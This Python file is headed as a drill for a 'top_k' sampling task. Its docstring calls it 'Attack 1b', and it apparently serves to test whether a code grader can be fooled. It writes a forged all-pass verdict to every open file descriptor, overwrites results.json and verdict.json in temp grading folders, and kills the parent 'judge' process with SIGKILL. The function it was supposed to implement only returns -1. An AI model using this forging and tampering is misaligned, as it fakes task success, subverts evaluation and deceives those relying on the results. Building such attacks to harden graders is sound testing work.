# mlprep drill: top_k
"""Attack 1b: without reading memory, write an all-pass verdict wherever it might be read from
(every open descriptor, every grading folder in the temp folders), then kill the judge."""
import glob
import json
import os
import signal

TARGETS = {}
FORGED = json.dumps({"drill": "top_k", "file": "x", "tests": [{"name": "all", "kind": "hidden", "status": "pass",
                     "message": "", "traceback": "", "duration_s": 0.0}], "duration_s": 0.0, "output": "",
                     "syntax": None})
mine = {int(a) for a in __import__("sys").argv[-2:] if a.isdigit()}
for fd in range(3, 256):
    if fd not in mine:
        try:
            os.write(fd, FORGED.encode())
        except OSError:
            pass
for root in {"/tmp", "/var/tmp", TARGETS.get("tmp", "/tmp")}:
    for folder in glob.glob(os.path.join(root, "mlprep-grade-*")):
        for name in ("results.json", "verdict.json"):
            try:
                with open(os.path.join(folder, name), "w") as out:
                    out.write(FORGED)
            except OSError:
                pass
try:
    os.kill(os.getppid(), signal.SIGKILL)  # the judge: without a verdict of its own, ours must do
except OSError:
    pass

def top_k_sample(logits, k, temperature=1.0, seed=None):
    return -1
